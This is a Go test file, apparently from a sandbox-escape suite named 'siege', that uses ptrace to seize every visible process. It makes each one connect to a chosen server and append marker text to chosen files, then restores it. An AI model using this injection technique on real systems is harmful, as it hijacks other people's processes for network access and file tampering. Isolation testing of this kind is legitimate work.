@@ -1,0 +1,156 @@
+package siege_test
+
+import (
+	"fmt"
+	"net/netip"
+	"strings"
+	"unsafe"
+
+	"golang.org/x/sys/unix"
+)
+
+// tracee is a process that the attacker has stopped and whose system calls it chooses.
+type tracee struct {
+	pid   int
+	saved registers
+	code  []byte // what stood where the instruction of the call stands now
+}
+
+// seize stops a process and makes it a puppet.
+func seize(pid int) (*tracee, error) {
+	if err := unix.PtraceAttach(pid); err != nil {
+		return nil, fmt.Errorf("attach: %w", err)
+	}
+	p := &tracee{pid: pid, code: make([]byte, len(callInstruction))}
+	err := p.await()
+	if err == nil {
+		err = getRegisters(pid, &p.saved)
+	}
+	if err == nil {
+		_, err = unix.PtracePeekText(pid, programCounter(&p.saved), p.code)
+	}
+	if err == nil {
+		_, err = unix.PtracePokeText(pid, programCounter(&p.saved), callInstruction)
+	}
+	if err != nil {
+		unix.PtraceDetach(pid)
+		return nil, err
+	}
+	return p, nil
+}
+
+// release puts everything back.
+func (p *tracee) release() {
+	unix.PtracePokeText(p.pid, programCounter(&p.saved), p.code)
+	setRegisters(p.pid, &p.saved)
+	unix.PtraceDetach(p.pid)
+}
+
+func (p *tracee) await() error {
+	var status unix.WaitStatus
+	for {
+		_, err := unix.Wait4(p.pid, &status, unix.WALL, nil)
+		switch {
+		case err == unix.EINTR:
+		case err != nil:
+			return fmt.Errorf("wait: %w", err)
+		case !status.Stopped():
+			return fmt.Errorf("it ended (%v)", status)
+		default:
+			return nil
+		}
+	}
+}
+
+// room is where arguments lie: below the stack and what the compiler may keep there.
+func (p *tracee) room() uintptr { return stackPointer(&p.saved)&^15 - 1024 }
+
+// put writes bytes into the process, and returns where they are.
+func (p *tracee) put(b []byte) (uintptr, error) {
+	_, err := unix.PtracePokeData(p.pid, p.room(), b)
+	return p.room(), err
+}
+
+// call has the process make a system call; a negative result is an errno.
+func (p *tracee) call(number uintptr, args ...uintptr) (int, error) {
+	r := p.saved
+	var six [6]uintptr
+	copy(six[:], args)
+	prepareCall(&r, number, six)
+	if err := setRegisters(p.pid, &r); err != nil {
+		return 0, err
+	}
+	if err := unix.PtraceSingleStep(p.pid); err != nil {
+		return 0, err
+	}
+	if err := p.await(); err != nil {
+		return 0, err
+	}
+	if err := getRegisters(p.pid, &r); err != nil {
+		return 0, err
+	}
+	return resultOf(&r), nil
+}
+
+// connect has the process say something to a TCP server.
+func (p *tracee) connect(server netip.AddrPort, word string) string {
+	sa := unix.RawSockaddrInet4{Family: unix.AF_INET, Addr: server.Addr().As4()}
+	*(*[2]byte)(unsafe.Pointer(&sa.Port)) = [2]byte{byte(server.Port() >> 8), byte(server.Port())}
+	fd, err := p.call(unix.SYS_SOCKET, unix.AF_INET, unix.SOCK_STREAM)
+	if err != nil || fd < 0 {
+		return fmt.Sprintf("socket: %d, %v", fd, err)
+	}
+	defer p.call(unix.SYS_CLOSE, uintptr(fd))
+	at, err := p.put((*[unix.SizeofSockaddrInet4]byte)(unsafe.Pointer(&sa))[:])
+	if err != nil {
+		return err.Error()
+	}
+	result, err := p.call(unix.SYS_CONNECT, uintptr(fd), at, unix.SizeofSockaddrInet4)
+	if err != nil || result < 0 {
+		return fmt.Sprintf("connect: %d, %v", result, err)
+	}
+	return p.write(fd, word)
+}
+
+// overwrite has the process write into a file.
+func (p *tracee) overwrite(path, word string) string {
+	at, err := p.put(append([]byte(path), 0))
+	if err != nil {
+		return err.Error()
+	}
+	here := unix.AT_FDCWD
+	fd, err := p.call(unix.SYS_OPENAT, uintptr(here), at, unix.O_WRONLY|unix.O_CREAT|unix.O_APPEND, 0o666)
+	if err != nil || fd < 0 {
+		return fmt.Sprintf("open: %d, %v", fd, err)
+	}
+	defer p.call(unix.SYS_CLOSE, uintptr(fd))
+	return p.write(fd, word)
+}
+
+func (p *tracee) write(fd int, word string) string {
+	at, err := p.put([]byte(word))
+	if err != nil {
+		return err.Error()
+	}
+	result, err := p.call(unix.SYS_WRITE, uintptr(fd), at, uintptr(len(word)))
+	return fmt.Sprintf("write to descriptor %d: %d, %v", fd, result, err)
+}
+
+// attackInject has every visible process connect to a server and write into files: SERVER FILE…
+func attackInject(args []string) {
+	server := netip.MustParseAddrPort(args[0])
+	for _, pid := range visible() {
+		p, err := seize(pid)
+		if err != nil {
+			fmt.Printf("process %d: %v\n", pid, err)
+			continue
+		}
+		word := fmt.Sprintf("by process %d", pid)
+		told := []string{p.connect(server, word)}
+		for _, path := range args[1:] {
+			told = append(told, p.overwrite(path, word))
+		}
+		p.release()
+		fmt.Printf("process %d, seized: %s\n", pid, strings.Join(told, "; "))
+	}
+}
